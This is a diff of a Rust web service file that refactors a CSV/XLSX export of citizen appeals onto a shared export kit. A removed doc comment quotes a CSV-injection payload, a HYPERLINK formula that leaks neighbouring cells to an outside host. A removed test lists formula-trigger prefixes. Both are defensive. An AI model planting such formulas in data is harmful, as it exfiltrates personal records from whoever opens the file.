@@ -1,123 +1,125 @@
-//! `GET /appeals/export?format=csv|xlsx`: the list's filters and masking, streamed.
-//!
-//! Rows are read page by page (keyset pagination) and handed to the response through a
-//! bounded channel, so memory does not grow with the number of rows. XLSX is written
-//! with rust_xlsxwriter's constant-memory mode to a temporary file and then streamed
-//! from it.
-//!
-//! A download goes as fast as the client reads, which may be never. So nothing waits
-//! for the client while holding a pooled connection or a thread: each page takes a
-//! connection and gives it back before its chunk is queued, and the queueing is an
-//! async wait. Ten slow downloads used to hold ten connections and starve every other
-//! request.
+//! `GET /appeals/export?format=csv|xlsx`: the list's filters and masking, as a
+//! [`kit::export`](crate::kit::export) table — the columns are data, the streaming,
+//! languages and formula neutralising are the kit's.
 
 use std::collections::HashMap;
-use std::io::Read;
 
-use actix_web::http::header;
-use actix_web::web::Bytes;
 use actix_web::{get, web, HttpRequest, HttpResponse};
 use baqylau_wire::appeals::Appeal;
+use chrono::NaiveDate;
 use diesel::prelude::*;
-use rust_xlsxwriter::{Format, Workbook, XlsxError};
-use tokio::sync::mpsc;
 
 use super::query::{self, AppealQuery, Cursor, Sort};
 use super::store::{self, Joined};
 use crate::auth::{Caller, Permission};
 use crate::db::schema::{appeal_categories, territories};
-use crate::db::{Db, DbConn};
-use crate::domain::appeal as rules;
-use crate::error::{ApiError, ApiResult, Problem};
+use crate::db::DbConn;
+use crate::error::{ApiResult, Problem};
+use crate::kit::export::{respond, Cell, Column, FileFormat, Lang, Pages, Table};
 use crate::startup::AppState;
 
+/// Rows read per page (and per connection checkout).
 const PAGE: i64 = 500;
 
-#[derive(Debug, Clone, Copy, PartialEq, Eq)]
-pub enum Lang {
-    Kk,
-    Ru,
-    En,
+/// An appeal as exported: masked like the list, with its names in the file's language.
+pub struct Row {
+    appeal: Appeal,
+    kato: String,
+    territory: String,
+    category: String,
 }
 
-/// The first of kk, ru, en named in `Accept-Language` (quality values aside); Kazakh
-/// when none is.
-pub fn language(req: &HttpRequest) -> Lang {
-    let header = req
-        .headers()
-        .get(header::ACCEPT_LANGUAGE)
-        .and_then(|v| v.to_str().ok())
-        .unwrap_or("");
-    let mut tags: Vec<(f32, &str)> = header
-        .split(',')
-        .filter_map(|part| {
-            let mut pieces = part.trim().split(';');
-            let tag = pieces.next()?.trim();
-            let q = pieces
-                .find_map(|p| {
-                    p.trim()
-                        .strip_prefix("q=")
-                        .and_then(|q| q.parse::<f32>().ok())
-                })
-                .unwrap_or(1.0);
-            Some((q, tag))
-        })
-        .collect();
-    tags.sort_by(|a, b| b.0.partial_cmp(&a.0).unwrap_or(std::cmp::Ordering::Equal));
-    tags.iter()
-        .find_map(|(_, tag)| {
-            match tag
-                .split('-')
-                .next()
-                .unwrap_or("")
-                .to_ascii_lowercase()
-                .as_str()
-            {
-                "kk" => Some(Lang::Kk),
-                "ru" => Some(Lang::Ru),
-                "en" => Some(Lang::En),
-                _ => None,
-            }
-        })
-        .unwrap_or(Lang::Kk)
-}
-
-/// Column headers in kk / ru / en.
-pub const COLUMNS: &[[&str; 3]] = &[
-    [
-        "Тіркеу нөмірі",
-        "Регистрационный номер",
-        "Registration number",
+/// The spreadsheet of appeals.
+pub static TABLE: Table<Row> = Table {
+    name: "appeals",
+    sheet: "Appeals",
+    columns: &[
+        Column {
+            headers: [
+                "Тіркеу нөмірі",
+                "Регистрационный номер",
+                "Registration number",
+            ],
+            cell: |r| Cell::text(&r.appeal.reg_number),
+        },
+        Column {
+            headers: ["Мәртебесі", "Статус", "Status"],
+            cell: |r| Cell::text(&r.appeal.status),
+        },
+        Column {
+            headers: ["Арна", "Канал", "Channel"],
+            cell: |r| Cell::text(&r.appeal.channel),
+        },
+        Column {
+            headers: ["Санат", "Категория", "Category"],
+            cell: |r| Cell::text(&r.category),
+        },
+        Column {
+            headers: ["Аумақ (КАТО)", "Территория (КАТО)", "Territory (KATO)"],
+            cell: |r| Cell::text(&r.kato),
+        },
+        Column {
+            headers: ["Аумақ", "Территория", "Territory"],
+            cell: |r| Cell::text(&r.territory),
+        },
+        Column {
+            headers: ["Түскен уақыты", "Дата поступления", "Received at"],
+            cell: |r| Cell::Time(r.appeal.received_at),
+        },
+        Column {
+            headers: ["Тіркелген күні", "Дата регистрации", "Registered on"],
+            cell: |r| Cell::Date(r.appeal.registered_on),
+        },
+        Column {
+            headers: ["Мерзімі", "Срок", "Due on"],
+            cell: |r| Cell::Date(r.appeal.due_on),
+        },
+        Column {
+            headers: ["Ұзартылған мерзімі", "Продлённый срок", "Extended due on"],
+            cell: |r| r.appeal.extended_due_on.map_or(Cell::Empty, Cell::Date),
+        },
+        Column {
+            headers: ["Мерзімі өткен", "Просрочено", "Overdue"],
+            cell: |r| Cell::Bool(r.appeal.overdue),
+        },
+        Column {
+            headers: ["Өтініш беруші", "Заявитель", "Citizen"],
+            cell: |r| Cell::opt_text(r.appeal.citizen.full_name.as_deref()),
+        },
+        Column {
+            headers: ["ЖСН", "ИИН", "IIN"],
+            cell: |r| Cell::opt_text(r.appeal.citizen.iin.as_deref()),
+        },
+        Column {
+            headers: ["Телефон", "Телефон", "Phone"],
+            cell: |r| Cell::opt_text(r.appeal.citizen.phone.as_deref()),
+        },
+        Column {
+            headers: ["Тақырыбы", "Тема", "Subject"],
+            cell: |r| Cell::text(&r.appeal.subject),
+        },
+        Column {
+            headers: ["Мазмұны", "Содержание", "Description"],
+            cell: |r| Cell::text(&r.appeal.description),
+        },
+        Column {
+            headers: ["Депутат (id)", "Депутат (id)", "Deputy (id)"],
+            cell: |r| r.appeal.deputy_id.map_or(Cell::Empty, Cell::Int),
+        },
+        Column {
+            headers: ["Орындаушы орган", "Исполнитель", "Assigned body"],
+            cell: |r| Cell::opt_text(r.appeal.assigned_body.as_deref()),
+        },
+        Column {
+            headers: ["Шешімі", "Решение", "Resolution"],
+            cell: |r| Cell::opt_text(r.appeal.resolution.as_deref()),
+        },
+        Column {
+            headers: ["Шешілген уақыты", "Дата решения", "Resolved at"],
+            cell: |r| r.appeal.resolved_at.map_or(Cell::Empty, Cell::Time),
+        },
     ],
-    ["Мәртебесі", "Статус", "Status"],
-    ["Арна", "Канал", "Channel"],
-    ["Санат", "Категория", "Category"],
-    ["Аумақ (КАТО)", "Территория (КАТО)", "Territory (KATO)"],
-    ["Аумақ", "Территория", "Territory"],
-    ["Түскен уақыты", "Дата поступления", "Received at"],
-    ["Тіркелген күні", "Дата регистрации", "Registered on"],
-    ["Мерзімі", "Срок", "Due on"],
-    ["Ұзартылған мерзімі", "Продлённый срок", "Extended due on"],
-    ["Мерзімі өткен", "Просрочено", "Overdue"],
-    ["Өтініш беруші", "Заявитель", "Citizen"],
-    ["ЖСН", "ИИН", "IIN"],
-    ["Телефон", "Телефон", "Phone"],
-    ["Тақырыбы", "Тема", "Subject"],
-    ["Мазмұны", "Содержание", "Description"],
-    ["Депутат (id)", "Депутат (id)", "Deputy (id)"],
-    ["Орындаушы орган", "Исполнитель", "Assigned body"],
-    ["Шешімі", "Решение", "Resolution"],
-    ["Шешілген уақыты", "Дата решения", "Resolved at"],
-];
-
-pub fn headers(lang: Lang) -> Vec<&'static str> {
-    let i = match lang {
-        Lang::Kk => 0,
-        Lang::Ru => 1,
-        Lang::En => 2,
-    };
-    COLUMNS.iter().map(|c| c[i]).collect()
-}
+};
 
 /// Names for codes and ids, loaded once per export.
 struct Names {
@@ -180,256 +182,52 @@ impl Names {
     }
 }
 
-/// Keeps a cell from being read as a formula by spreadsheet programs: a subject like
-/// `=HYPERLINK("http://x/?"&L2,"…")` would otherwise run when staff open the file and
-/// leak the neighbouring cells (OWASP, CSV Injection). A leading apostrophe makes the
-/// cell text; the cell's characters are otherwise unchanged.
-fn defuse_formula(cell: String) -> String {
-    if cell.starts_with(['=', '+', '-', '@', '\t', '\r']) {
-        format!("'{cell}")
-    } else {
-        cell
-    }
-}
-
-/// One exported row as text cells (CSV) — XLSX writes the typed values itself, and its
-/// strings are never formulas.
-fn text_cells(a: &Appeal, names: &Names) -> Vec<String> {
-    let (kato, territory) = names.territory(a.territory_id);
-    let opt = |v: &Option<String>| v.clone().unwrap_or_default();
-    let cells = vec![
-        a.reg_number.clone(),
-        a.status.clone(),
-        a.channel.clone(),
-        names.category(&a.category),
-        kato,
-        territory,
-        a.received_at
-            .to_rfc3339_opts(chrono::SecondsFormat::Secs, true),
-        a.registered_on.to_string(),
-        a.due_on.to_string(),
-        a.extended_due_on.map(|d| d.to_string()).unwrap_or_default(),
-        a.overdue.to_string(),
-        opt(&a.citizen.full_name),
-        opt(&a.citizen.iin),
-        opt(&a.citizen.phone),
-        a.subject.clone(),
-        a.description.clone(),
-        a.deputy_id.map(|d| d.to_string()).unwrap_or_default(),
-        opt(&a.assigned_body),
-        opt(&a.resolution),
-        a.resolved_at
-            .map(|t| t.to_rfc3339_opts(chrono::SecondsFormat::Secs, true))
-            .unwrap_or_default(),
-    ];
-    cells.into_iter().map(defuse_formula).collect()
-}
-
-/// One page of matching appeals, newest first, after the appeal `after` (keyset).
-fn page(
-    conn: &mut DbConn,
-    caller: &Caller,
-    filter: &query::Filter,
+/// Every appeal the list would show, newest first, a page at a time.
+struct AppealPages {
+    caller: Caller,
+    filter: query::Filter,
+    lang: Lang,
+    today: NaiveDate,
+    names: Option<Names>,
     after: Option<i64>,
-) -> Result<Vec<Joined>, ApiError> {
-    let cursor = after.map(Cursor::Id);
-    Ok(query::ordered(
-        query::filtered(conn, caller, filter)?,
-        Sort::Newest,
-        cursor.as_ref(),
-    )
-    .limit(PAGE)
-    .load(conn)?)
+    done: bool,
 }
 
-/// The keyset cursor after `rows`, or `None` when `rows` was the last page.
-fn next_after(rows: &[Joined]) -> Option<i64> {
-    if (rows.len() as i64) < PAGE {
-        return None;
-    }
-    rows.last().map(|r| r.0.id)
-}
+impl Pages for AppealPages {
+    type Row = Row;
 
-type Chunk = Result<Bytes, std::io::Error>;
-
-/// Queues a chunk for the client, waiting (asynchronously, holding nothing) while the
-/// client is slow.
-async fn send(tx: &mpsc::Sender<Chunk>, chunk: Vec<u8>) -> Result<(), ApiError> {
-    tx.send(Ok(Bytes::from(chunk)))
-        .await
-        .map_err(|_| ApiError::Internal(anyhow::anyhow!("export client went away")))
-}
-
-fn csv_chunk(records: Vec<Vec<String>>, prefix: &[u8]) -> Result<Vec<u8>, ApiError> {
-    let mut out = csv::Writer::from_writer(prefix.to_vec());
-    for record in records {
-        out.write_record(record).map_err(anyhow::Error::from)?;
-    }
-    out.into_inner()
-        .map_err(|e| ApiError::Internal(anyhow::anyhow!("csv: {e}")))
-}
-
-async fn produce_csv(
-    db: Db,
-    caller: Caller,
-    filter: query::Filter,
-    lang: Lang,
-    tx: mpsc::Sender<Chunk>,
-) -> Result<(), ApiError> {
-    let names = db.run(move |conn| Ok(Names::load(conn, lang)?)).await?;
-    let today = rules::today();
-    // A byte-order mark lets spreadsheet programs read the UTF-8 Cyrillic correctly.
-    let header = vec![headers(lang).into_iter().map(str::to_owned).collect()];
-    send(&tx, csv_chunk(header, b"\xEF\xBB\xBF")?).await?;
-    let mut after = None;
-    loop {
-        let (c, f) = (caller.clone(), filter.clone());
-        // The connection goes back to the pool when this returns, before the wait below.
-        let rows = db.run(move |conn| page(conn, &c, &f, after)).await?;
-        let records = rows
+    fn next_page(&mut self, conn: &mut DbConn) -> ApiResult<Vec<Row>> {
+        if self.done {
+            return Ok(Vec::new());
+        }
+        if self.names.is_none() {
+            self.names = Some(Names::load(conn, self.lang)?);
+        }
+        let rows: Vec<Joined> = query::ordered(
+            query::filtered(conn, &self.caller, &self.filter)?,
+            Sort::Newest,
+            self.after.map(Cursor::Id).as_ref(),
+        )
+        .limit(PAGE)
+        .load(conn)?;
+        self.done = (rows.len() as i64) < PAGE;
+        self.after = rows.last().map(|r| r.0.id);
+        let names = self.names.as_ref().expect("loaded above");
+        Ok(rows
             .iter()
-            .map(|r| text_cells(&store::view(r, false, false, today), &names))
-            .collect();
-        send(&tx, csv_chunk(records, b"")?).await?;
-        match next_after(&rows) {
-            Some(id) => after = Some(id),
-            None => return Ok(()),
-        }
+            .map(|joined| {
+                let appeal = store::view(joined, false, false, self.today);
+                let (kato, territory) = names.territory(appeal.territory_id);
+                let category = names.category(&appeal.category);
+                Row {
+                    appeal,
+                    kato,
+                    territory,
+                    category,
+                }
+            })
+            .collect())
     }
-}
-
-async fn produce_xlsx(
-    db: Db,
-    caller: Caller,
-    filter: query::Filter,
-    lang: Lang,
-    tx: mpsc::Sender<Chunk>,
-) -> Result<(), ApiError> {
-    let mut file = web::block(move || write_xlsx(&db, &caller, &filter, lang))
-        .await
-        .map_err(|e| ApiError::Internal(anyhow::anyhow!("xlsx task failed: {e}")))??;
-    loop {
-        let (back, buf) = web::block(move || {
-            let mut buf = vec![0u8; 64 * 1024];
-            let n = file.read(&mut buf)?;
-            buf.truncate(n);
-            Ok::<_, std::io::Error>((file, buf))
-        })
-        .await
-        .map_err(|e| ApiError::Internal(anyhow::anyhow!("xlsx read task failed: {e}")))?
-        .map_err(|e| ApiError::Internal(e.into()))?;
-        if buf.is_empty() {
-            return Ok(());
-        }
-        file = back;
-        send(&tx, buf).await?;
-    }
-}
-
-/// Writes the workbook to a temporary file, rewound. Blocking; no client waits here,
-/// and each page holds a connection only while it is read.
-fn write_xlsx(
-    db: &Db,
-    caller: &Caller,
-    filter: &query::Filter,
-    lang: Lang,
-) -> Result<std::fs::File, ApiError> {
-    let xlsx = |e: XlsxError| ApiError::Internal(anyhow::anyhow!("xlsx: {e}"));
-    let names = Names::load(&mut *db.get()?, lang)?;
-    let today = rules::today();
-    let mut workbook = Workbook::new();
-    let date = Format::new().set_num_format("yyyy-mm-dd");
-    let datetime = Format::new().set_num_format("yyyy-mm-dd hh:mm");
-    let bold = Format::new().set_bold();
-    let sheet = workbook.add_worksheet_with_constant_memory();
-    sheet.set_name("Appeals").map_err(xlsx)?;
-    for (col, title) in headers(lang).iter().enumerate() {
-        sheet
-            .write_string_with_format(0, col as u16, *title, &bold)
-            .map_err(xlsx)?;
-    }
-    sheet.set_freeze_panes(1, 0).map_err(xlsx)?;
-    let mut row_index: u32 = 0;
-    let mut after = None;
-    loop {
-        let rows = page(&mut *db.get()?, caller, filter, after)?;
-        for r in &rows {
-            row_index += 1;
-            let a = store::view(r, false, false, today);
-            let (kato, territory) = names.territory(a.territory_id);
-            let row = row_index;
-            let s = |v: &Option<String>| v.clone().unwrap_or_default();
-            // Text goes in with write_string, never write(): a string is stored as a
-            // string even when it starts with "=", so no cell is a formula.
-            sheet.write_string(row, 0, &a.reg_number).map_err(xlsx)?;
-            sheet.write_string(row, 1, &a.status).map_err(xlsx)?;
-            sheet.write_string(row, 2, &a.channel).map_err(xlsx)?;
-            sheet
-                .write_string(row, 3, names.category(&a.category))
-                .map_err(xlsx)?;
-            sheet.write_string(row, 4, kato).map_err(xlsx)?;
-            sheet.write_string(row, 5, territory).map_err(xlsx)?;
-            // Local (Asia/Almaty) wall-clock time: spreadsheet cells carry no zone.
-            let received = a.received_at.with_timezone(&rules::almaty()).naive_local();
-            sheet
-                .write_datetime_with_format(row, 6, received, &datetime)
-                .map_err(xlsx)?;
-            sheet
-                .write_date_with_format(row, 7, a.registered_on, &date)
-                .map_err(xlsx)?;
-            sheet
-                .write_date_with_format(row, 8, a.due_on, &date)
-                .map_err(xlsx)?;
-            if let Some(d) = a.extended_due_on {
-                sheet
-                    .write_date_with_format(row, 9, d, &date)
-                    .map_err(xlsx)?;
-            }
-            sheet.write_boolean(row, 10, a.overdue).map_err(xlsx)?;
-            sheet
-                .write_string(row, 11, s(&a.citizen.full_name))
-                .map_err(xlsx)?;
-            sheet
-                .write_string(row, 12, s(&a.citizen.iin))
-                .map_err(xlsx)?;
-            sheet
-                .write_string(row, 13, s(&a.citizen.phone))
-                .map_err(xlsx)?;
-            sheet.write_string(row, 14, &a.subject).map_err(xlsx)?;
-            sheet.write_string(row, 15, &a.description).map_err(xlsx)?;
-            if let Some(d) = a.deputy_id {
-                sheet.write_number(row, 16, d as f64).map_err(xlsx)?;
-            }
-            sheet
-                .write_string(row, 17, s(&a.assigned_body))
-                .map_err(xlsx)?;
-            sheet
-                .write_string(row, 18, s(&a.resolution))
-                .map_err(xlsx)?;
-            if let Some(t) = a.resolved_at {
-                sheet
-                    .write_datetime_with_format(
-                        row,
-                        19,
-                        t.with_timezone(&rules::almaty()).naive_local(),
-                        &datetime,
-                    )
-                    .map_err(xlsx)?;
-            }
-        }
-        match next_after(&rows) {
-            Some(id) => after = Some(id),
-            None => break,
-        }
-    }
-    sheet
-        .autofilter(0, 0, row_index, (COLUMNS.len() - 1) as u16)
-        .map_err(xlsx)?;
-    let mut file = tempfile::tempfile().map_err(|e| ApiError::Internal(e.into()))?;
-    workbook.save_to_writer(&mut file).map_err(xlsx)?;
-    use std::io::Seek;
-    file.rewind().map_err(|e| ApiError::Internal(e.into()))?;
-    Ok(file)
 }
 
 /// Exports the appeals the list would show, with the same filters and masking, as CSV
@@ -459,89 +257,31 @@ pub async fn export(
 ) -> ApiResult<HttpResponse> {
     caller.authorize(Permission::AppealsRead)?;
     let query = query.into_inner();
-    let xlsx = match query.format.as_deref().unwrap_or("csv") {
-        "csv" => false,
-        "xlsx" => true,
-        _ => {
-            return Err(ApiError::validation(
-                "format",
-                "one_of",
-                "must be csv or xlsx",
-            ))
-        }
-    };
+    let format = FileFormat::parse(query.format.as_deref())?;
     let parsed = query.parse(true)?;
-    let lang = language(&req);
+    let lang = Lang::of(&req);
     // Problems with the filters are answered before the first byte is sent.
     let (c, f) = (caller.clone(), parsed.filter.clone());
     state
         .db
         .run(move |conn| query::filtered(conn, &c, &f).map(|_| ()))
         .await?;
-    let (tx, rx) = mpsc::channel::<Chunk>(8);
-    let db = state.db.clone();
-    let filter = parsed.filter;
-    actix_web::rt::spawn(async move {
-        let result = if xlsx {
-            produce_xlsx(db, caller, filter, lang, tx.clone()).await
-        } else {
-            produce_csv(db, caller, filter, lang, tx.clone()).await
-        };
-        if let Err(e) = result {
-            tracing::warn!(error = %e, "export stopped");
-            let _ = tx.send(Err(std::io::Error::other("export failed"))).await;
-        }
-    });
-    let stream = futures_util::stream::unfold(rx, |mut rx| async move {
-        rx.recv().await.map(|chunk| (chunk, rx))
-    });
-    let (content_type, extension) = if xlsx {
-        (
-            "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
-            "xlsx",
-        )
-    } else {
-        ("text/csv; charset=utf-8", "csv")
+    let today = state.clock.today();
+    let pages = AppealPages {
+        caller,
+        filter: parsed.filter,
+        lang,
+        today,
+        names: None,
+        after: None,
+        done: false,
     };
-    let filename = format!("appeals-{}.{extension}", rules::today());
-    Ok(HttpResponse::Ok()
-        .insert_header((header::CONTENT_TYPE, content_type))
-        .insert_header((
-            header::CONTENT_DISPOSITION,
-            format!("attachment; filename=\"{filename}\""),
-        ))
-        .insert_header((header::CACHE_CONTROL, "no-store"))
-        .streaming(stream))
-}
-
-#[cfg(test)]
-mod tests {
-    use super::*;
-
-    #[test]
-    fn accept_language_picks_the_best_supported_tag() {
-        let req = |v: &str| {
-            actix_web::test::TestRequest::default()
-                .insert_header((header::ACCEPT_LANGUAGE, v))
-                .to_http_request()
-        };
-        assert_eq!(language(&req("ru-RU,ru;q=0.9,en;q=0.8")), Lang::Ru);
-        assert_eq!(language(&req("de, en;q=0.5")), Lang::En);
-        assert_eq!(language(&req("en;q=0.3, kk;q=0.9")), Lang::Kk);
-        assert_eq!(
-            language(&actix_web::test::TestRequest::default().to_http_request()),
-            Lang::Kk
-        );
-        assert_eq!(headers(Lang::En)[0], "Registration number");
-    }
-
-    #[test]
-    fn cells_that_spreadsheets_read_as_formulas_become_text() {
-        for risky in ["=1+1", "+7 701", "-2", "@SUM(A1)", "\tx", "\rx"] {
-            assert_eq!(defuse_formula(risky.to_owned()), format!("'{risky}"));
-        }
-        for safe in ["Ауыз су", "2026-04-15", "a=b", "", "'quoted"] {
-            assert_eq!(defuse_formula(safe.to_owned()), safe);
-        }
-    }
+    Ok(respond(
+        state.db.clone(),
+        &TABLE,
+        pages,
+        format,
+        lang,
+        today,
+    ))
 }
